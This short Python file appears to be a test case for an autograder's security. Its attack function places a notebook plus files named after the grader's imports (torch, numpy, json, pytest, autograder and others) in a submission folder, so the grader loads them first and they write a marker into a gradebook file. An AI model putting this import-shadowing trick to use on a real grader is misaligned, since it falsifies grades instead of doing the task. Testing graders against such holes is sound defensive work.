# aim: his modules in place of those the grader imports, by where they lie
# pays: file
# weak: imports with the submitted folder first
import nbformat

NAMES = ("torch", "numpy", "json", "nbformat", "pytest", "random", "autograder")


def attack(folder, release, marker):
    nbformat.write(release, folder / "seq2seq.ipynb")
    for name in NAMES:
        (folder / f"{name}.py").write_text(f"open('@GRADEBOOK@.note', 'w').write('{marker}')\n")
